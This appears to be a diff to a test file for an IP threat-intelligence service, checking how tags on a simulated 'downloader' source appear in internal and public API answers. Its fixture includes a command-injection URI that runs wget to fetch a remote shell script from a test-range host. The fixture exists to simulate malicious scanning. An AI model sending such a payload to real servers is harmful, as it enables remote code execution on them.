@@ -10,6 +10,8 @@ const { now, environment } = noon()
 const hourMs = 3_600_000
 const dayMs = 24 * hourMs
 const worm = '198.18.7.1'
+/** Carries a tag of the category worm and others whose intention nobody knows. */
+const downloader = '198.18.9.1'
 const others = Array.from({ length: 40 }, (_, at) => `198.18.8.${at + 1}`)
 
 const env = (source: string, at: number) =>
@@ -23,6 +25,11 @@ beforeAll(async () => {
     ...others.flatMap((source) => [env(source, now - dayMs), env(source, now - 2 * dayMs)]),
     env(worm, now - 60_000),
     webVisit(worm, { uri: '/=cmd', userAgent: '=evil' }, now - 50_000),
+    webVisit(
+      downloader,
+      { uri: '/?cd%20/tmp;wget%20http://198.18.0.9/a.sh', userAgent: 'curl/8.1' },
+      now - 40_000,
+    ),
   ]
   for (const visit of visits) visit.sourcePort = 1024 + Math.floor(Math.random() * 60_000)
   await upload(product, captureOf(visits))
@@ -77,6 +84,40 @@ describe('tags', () => {
     expect(new Set(tags.map(({ category }) => category))).toEqual(new Set(['others']))
     const other = (await ask(product, '/api/tags?intention=other')).body.tags as Row[]
     expect(new Set(other.map(({ intention }) => intention))).toEqual(new Set(['other']))
+  })
+
+  test('keep them inside answers about addresses too, one by one, in pages and in files; the public calls keep theirs', async () => {
+    type Worded = { category: string; intention: string }
+    const tagsOf = (record: unknown): Worded[] =>
+      (record as { internet_scanner_intelligence: { tags: Worded[] } }).internet_scanner_intelligence.tags
+    const words = (tags: Worded[]) => ({
+      categories: new Set(tags.map(({ category }) => category)),
+      intentions: new Set(tags.map(({ intention }) => intention)),
+    })
+    const query = `query=${downloader}`
+    const { body: whole } = await ask(product, `/api/ip/${downloader}`)
+    const { body: page } = await ask(product, `/api/ip/query?${query}`)
+    const file = await ask(product, `/api/ip/query?${query}&export_format=json`)
+    for (const record of [whole, (page.data as unknown[])[0], (file.body.data as unknown[])[0]]) {
+      const { categories, intentions } = words(tagsOf(record))
+      expect([categories.has('others'), categories.has('worm')]).toEqual([true, false])
+      expect([intentions.has('other'), intentions.has('unknown')]).toEqual([true, false])
+    }
+    const { verdict, activity } = whole as unknown as {
+      verdict: { classification: string; reasons: Worded[] }
+      activity: { rows: { intention: string | null }[] }
+    }
+    expect(verdict.classification).toBe('malicious')
+    expect(words(verdict.reasons).categories.has('worm')).toBe(false)
+    expect(words(verdict.reasons).intentions.has('unknown')).toBe(false)
+    expect(new Set(activity.rows.map(({ intention }) => intention)).has('unknown')).toBe(false)
+    for (const [path, of] of [
+      [`/v3/ip/${downloader}`, (body: Record<string, unknown>) => body],
+      [`/v3/gnql?${query}`, (body: Record<string, unknown>) => (body.data as unknown[])[0]],
+    ] as const) {
+      const { categories, intentions } = words(tagsOf(of((await ask(product, path)).body)))
+      expect([path, categories.has('worm'), intentions.has('unknown')]).toEqual([path, true, true])
+    }
   })
 
   test('are found by id and by slug; nothing else is', async () => {
